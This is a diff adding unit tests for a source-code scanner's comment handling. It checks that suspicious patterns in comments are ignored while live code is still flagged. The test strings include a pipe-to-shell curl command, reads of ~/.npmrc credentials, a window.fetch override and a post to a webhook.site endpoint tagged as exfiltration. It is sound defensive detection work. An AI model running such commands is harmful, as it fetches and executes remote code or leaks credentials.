@@ -166,6 +166,17 @@ describe('scanText browser hooks, credentials, environment, network, droppers', 
   });
 });
 
+describe('comments', () => {
+  test('URLs and paths in comments do not count, code after a string containing // does', () => {
+    assert.deepEqual(patterns('// see https://pastebin.com/N21QzeQA for the crash'), []);
+    assert.deepEqual(patterns(' * reads ~/.npmrc for the registry'), []);
+    assert.deepEqual(patterns('x = 1; // window.fetch = f'), []);
+    assert.deepEqual(patterns('# curl http://x.invalid | sh', 'setup.sh'), []);
+    assert.ok(patterns("var s = ' //'; read(home + '/.npmrc')").includes('npmrc'));
+    assert.ok(patterns("post('https://webhook.site/abc')").includes('exfil-endpoint'));
+  });
+});
+
 describe('scanText cost', () => {
   test('a ~3 MB minified bundle scans quickly', (t) => {
     const bundle = minifiedBundle();
